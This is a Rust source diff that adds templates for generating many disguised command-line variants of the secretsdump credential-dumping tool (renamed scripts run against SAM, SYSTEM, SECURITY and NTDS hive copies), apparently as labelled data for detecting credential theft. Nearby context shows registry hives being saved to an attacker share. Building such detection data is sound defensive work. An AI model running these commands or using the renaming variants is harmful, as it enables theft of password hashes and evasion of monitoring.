@@ -156,6 +156,20 @@ const LOCAL: &[&str] = &[
     r"{sd} {files}⏎ LOCAL",
 ];
 
+/// The script under another name: its options tell.
+const RENAMED: &[&str] = &[
+    "{sd} {files} «LOCAL¦LOCAL¦local»",
+    "{sd} {files} -outputfile {f} LOCAL",
+    "{sd} LOCAL {files}",
+    "cd {shdir}« && ¦; »{sd} {files} LOCAL",
+    "{sd} {files} LOCAL« > {shout}¦ | tee {f}.txt»",
+];
+const RENAMED_AS: &str = concat!(
+    "«{python} «./¦/tmp/¦{shdir}/¦»{stem}.py¦./{stem}.py¦{python} «{alnum4}¦{alnum6}¦{stem}_{alnum3}».py¦{shdir}/{stem}¦",
+    "./{alnum5}¦{stem}.exe»",
+);
+const ENDING: &str = "«sv¦sav¦hiv¦hive¦bin¦dat¦bak¦save¦tmp¦out¦{alnum3}»";
+
 pub const FAMILIES: &[Family] = &[
     Family::act("secretsdump", "secretsdump-remote", "secretsdump-just-dc", Sh, SECRETS).slots(&[("sd", SD), ("more", MOREPOS), ("lv", "«ip¦h¦host¦t»")]).weight(35),
     Family::other("secretsdump", "secretsdump-just-dc", Sh, &[
@@ -185,6 +199,14 @@ pub const FAMILIES: &[Family] = &[
             "«⟦-ntds {ntdscopy}¦-system {ks}⟧¦⟦-ntds {ntdscopy}¦-bootkey 0x{hex32}⟧¦-system ",
             "{ks} -ntds {ntdscopy}¦-ntds {ntdscopy} -system {ks} -user-status -pwd-last-set»",
         )), ("ks", "«{winsyscopy}¦{shdir}/system¦./SYSTEM¦{stem}/SYSTEM¦system.save¦registry/SYSTEM»")]).weight(16),
+    Family::act("secretsdump", "secretsdump-renamed", "secretsdump-renamed-ntds", Sh, RENAMED).slots(&[("sd", RENAMED_AS), ("e", ENDING), ("files", concat!(
+            "«⟦-sam {f}.{e}¦-system {f}.{e}⟧¦⟦-sam {f}.{e}¦-system {f}.{e}¦-security {f}.{e}⟧¦",
+            "⟦-sam {samcopy}¦-system {syscopy}⟧¦-sam {f} -security {f} -system {f}¦-sam {f}.{e} -bootkey {hex32}»",
+        )), ("f", "«{stem}¦{alnum2}¦{shdir}/{alnum3}¦./{stem}¦{alnum5}¦{1..9}»")]).weight(6),
+    Family::other("secretsdump", "secretsdump-renamed-ntds", Sh, RENAMED).slots(&[("sd", RENAMED_AS), ("e", ENDING), ("files", concat!(
+            "«⟦-ntds {f}.{e}¦-system {f}.{e}⟧¦⟦-ntds {ntdscopy}¦-system {syscopy}⟧¦-ntds {f} -bootkey {hex32}¦",
+            "-input {f}.{e} -output {f}.{e}¦-in {f} -system {f}¦--zone {f}¦-i {f}.{e} -o {f}»",
+        )), ("f", "«{stem}¦{alnum2}¦{shdir}/{alnum3}¦./{stem}¦{alnum5}¦{1..9}»")]).weight(6),
     Family::act("reg-py", "impacket-reg-hive", "impacket-reg-other", Sh, REGPY).slots(&[("rp", RP), ("op", concat!(
             r"«backup« -o '\\{attacker}\{share}'»¦save -keyName «'HKLM\{secret}'¦HKLM\\{secret}¦",
             r"'hklm\{secret}'¦HKLM\\SYSTEM» -o «'\\{attacker}\{share}'¦'C:\Windows\Temp'¦",
